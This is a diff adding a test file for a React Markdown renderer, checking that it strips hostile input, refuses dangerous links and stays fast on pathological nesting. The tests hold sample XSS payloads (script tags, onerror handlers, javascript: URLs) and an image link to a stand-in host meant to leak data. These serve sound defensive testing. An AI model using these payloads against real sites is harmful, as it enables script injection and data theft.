@@ -1,0 +1,111 @@
+import "../../../app/testing/browser";
+import { render, screen } from "@testing-library/react";
+import { describe, expect, it } from "vitest";
+import { Markdown, StreamingMarkdown } from "./Markdown";
+
+function html(text: string): HTMLElement {
+  return render(<Markdown text={text} />).container;
+}
+
+describe("Markdown of a stranger", () => {
+  it.each([
+    ["a script", "<script>alert(1)</script>"],
+    ["a picture that runs code", '<img src="x" onerror="alert(1)">'],
+    ["a frame", '<iframe src="https://evil.example"></iframe>'],
+    ["a form in a paragraph", 'hello <form action="https://evil.example"><input></form>'],
+    ["a style sheet", "<style>body{display:none}</style>"],
+  ])("makes no element of %s", (_, text) => {
+    const box = html(text);
+    expect(box.querySelector("script, img, iframe, form, input, style")).toBeNull();
+    expect(box.innerHTML).not.toContain("<script");
+  });
+
+  it.each([
+    ["javascript:alert(1)"],
+    ["JaVaScRiPt:alert(1)"],
+    ["data:text/html,<script>alert(1)</script>"],
+    ["vbscript:x"],
+    ["file:///etc/passwd"],
+  ])("gives %s no link", (url) => {
+    const box = html(`[press me](<${url}>)`);
+    expect(box.querySelector("a[href]")).toBeNull();
+    expect(box.textContent).toContain("press me");
+  });
+
+  it("opens links elsewhere, without a way back", () => {
+    html("[docs](https://example.org/a)");
+    const link = screen.getByRole("link", { name: "docs" });
+    expect(link.getAttribute("href")).toBe("https://example.org/a");
+    expect(link.getAttribute("target")).toBe("_blank");
+    expect(link.getAttribute("rel")).toBe("noopener noreferrer");
+  });
+
+  it("fetches no picture by itself", () => {
+    const box = html("![secret](https://evil.example/?q=secret) ![](data:image/png;base64,AAAA)");
+    expect(box.querySelector("img, picture, video, source")).toBeNull();
+    expect(screen.getByRole("link").textContent).toBe("[image: secret]");
+  });
+
+  it.each([
+    ["quotes in quotes", "> ".repeat(5000), "x"],
+    ["lists in lists", "- ".repeat(5000), "x"],
+    ["links in links", "[a](".repeat(5000), ""],
+    ["emphasis in emphasis", "*_".repeat(5000), "x"],
+    ["emphasis with words", "*aaaa _bbbb ".repeat(3000), "x"],
+    ["lists that are set in", Array.from({ length: 600 }, (_, i) => `${" ".repeat(i * 2)}- x`).join("\n"), ""],
+    ["a table of millions of cells", `${"|a".repeat(2000)}|\n${"|-".repeat(2000)}|\n${"|\n".repeat(2000)}`, ""],
+    ["runs of backticks", Array.from({ length: 600 }, (_, i) => "`".repeat(i)).join(" "), ""],
+  ])("shows %s without end as they were written, at once", (_, start, end) => {
+    const began = performance.now();
+    const box = html(start + end);
+    expect(box.textContent).toBe(start + end);
+    expect(box.querySelector("blockquote, ul, em, table, code")).toBeNull();
+    expect(performance.now() - began).toBeLessThan(2000);
+  });
+
+  it("reads what people and models write as Markdown, however long", () => {
+    const table = `|a|b|c|\n|-|-|-|\n${"| **x** | `y` | [z](https://example.org) |\n".repeat(150)}`;
+    const code = `\`\`\`c\n${"*p = a[i][j] * b[k]; /* _x_ */\n".repeat(2000)}\`\`\`\n`;
+    const list = "- **a** *b* `c` [d](https://example.org)\n  - e\n\n".repeat(100);
+    const box = html(`${table}\n\n${code}\n${list}`);
+    expect(box.querySelectorAll("tr").length).toBe(151);
+    expect(box.querySelectorAll("figcaption").length).toBe(1);
+    expect(box.querySelectorAll("li").length).toBe(200);
+  });
+
+  it("knows tables, and aligns their columns", () => {
+    const cells = html("| a | b |\n|---|--:|\n| 1 | 2 |").querySelectorAll("td");
+    expect([...cells].map((cell) => [cell.textContent, cell.style.textAlign])).toEqual([
+      ["1", ""],
+      ["2", "right"],
+    ]);
+  });
+
+  it("shows code with its language and a copy button", () => {
+    const box = html("```go\nfunc main() {}\n```");
+    expect(box.querySelector("figcaption")?.textContent).toContain("go");
+    expect(box.querySelector("pre")?.textContent).toBe("func main() {}");
+    expect(screen.getByRole("button", { name: "Copy the code" })).toBeTruthy();
+  });
+});
+
+describe("Markdown that grows", () => {
+  const text = "# Title\n\nOne.\n\n- a\n\n- b\n\n```js\nconst a = 1;\n\nconst b = 2;\n```\n\nEnd **bold**.";
+
+  it("ends as the finished text does", () => {
+    const view = render(<StreamingMarkdown text="" />);
+    for (let n = 1; n <= text.length; n++) {
+      view.rerender(<StreamingMarkdown text={text.slice(0, n)} />);
+    }
+    // Line breaks between two blocks are no part of what is seen.
+    const seen = (box: HTMLElement) => box.querySelector(".md")?.innerHTML.replaceAll(">\n<", "><");
+    expect(seen(view.container)).toBe(seen(html(text)));
+  });
+
+  it("leaves finished blocks alone", () => {
+    const view = render(<StreamingMarkdown text={"First.\n\nSecond.\n\nThi"} />);
+    const first = view.container.querySelector("p");
+    view.rerender(<StreamingMarkdown text={"First.\n\nSecond.\n\nThird, and more."} />);
+    expect(view.container.querySelector("p")).toBe(first);
+  });
+});
